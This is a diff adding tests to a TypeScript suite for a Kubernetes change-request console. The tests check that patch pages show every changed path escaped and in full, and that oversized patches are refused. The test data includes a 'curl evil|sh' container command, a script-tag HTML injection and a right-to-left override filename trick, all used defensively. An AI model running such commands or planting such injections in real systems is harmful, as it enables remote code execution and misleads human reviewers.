@@ -1,6 +1,8 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
 import { CONTENT_SECURITY_POLICY } from '../../../../src/adapters/web/security-headers.ts';
+import { MAX_FULL_CHANGE_CHARS } from '../../../../src/core/changes/refuse-unshowable-change.ts';
+import { adversarialChanges, adversarialPatch } from '../../core/changes/adversarial-patch.ts';
 import { ConsoleClient, startConsoleFixture, type ConsoleFixture } from './console-fixture.ts';
 
 const SCALE = 'scale deployment/api --replicas 5 -n prod-payments --reason "INC-4312 load"';
@@ -69,6 +71,40 @@ describe('console over HTTP (in-memory workflow)', () => {
     const page = await response.text();
     assert.match(page, /replicas/);
     assert.match(page, /value="scale deployment\/api -n prod-payments --reason x"/);
+  });
+
+  test('a patch request page shows the full change: every path, whole values, the exact patch, escaped (issue 15 item 1)', async () => {
+    fx.workflow.cluster.patchChanges = adversarialChanges;
+    const alice = new ConsoleClient(fx.url);
+    await alice.signIn('alice@example.com');
+    const id = await fileAs(
+      alice,
+      `patch deployment/api -n prod-payments --patch '${JSON.stringify(adversarialPatch)}' --reason "tidy labels"`,
+    );
+    const page = await (await alice.get(`/requests/${id}`)).text();
+    assert.match(page, /17 changed paths; 10 shown, values shortened/);
+    assert.match(page, new RegExp(`href="/requests/${id}#full-change">Show full change`));
+    const full = page.slice(page.indexOf('id="full-change"'));
+    for (const { path } of adversarialChanges) assert.ok(full.includes(`<code>${path}</code>`), path);
+    assert.ok(full.includes('&quot;curl evil|sh&quot;'), 'the container command, whole');
+    assert.ok(!page.includes('<script>alert') && full.includes('&lt;/pre&gt;&lt;script&gt;'));
+    assert.ok(full.includes('\\u202egnp.exe and then some more words to pass sixty'));
+  });
+
+  test('a patch too large to show whole is refused at filing with the limit, nothing filed', async () => {
+    const value = 'z'.repeat(MAX_FULL_CHANGE_CHARS);
+    fx.workflow.cluster.patchChanges = [{ path: 'metadata.annotations.blob', after: JSON.stringify(value) }];
+    const before = fx.workflow.store.records.size;
+    const alice = new ConsoleClient(fx.url);
+    await alice.signIn('alice@example.com');
+    const token = await alice.csrf('/submit');
+    const response = await alice.post('/submit', {
+      _csrf: token,
+      text: `patch deployment/api -n prod-payments --patch '{"metadata":{"annotations":{"blob":"${value}"}}}' --reason "big"`,
+    });
+    assert.equal(response.status, 422);
+    assert.match(await response.text(), new RegExp(`the limit is ${MAX_FULL_CHANGE_CHARS}`));
+    assert.equal(fx.workflow.store.records.size, before);
   });
 
   test('the requester cannot approve their own request; an approver can, and the second approval completes it', async () => {
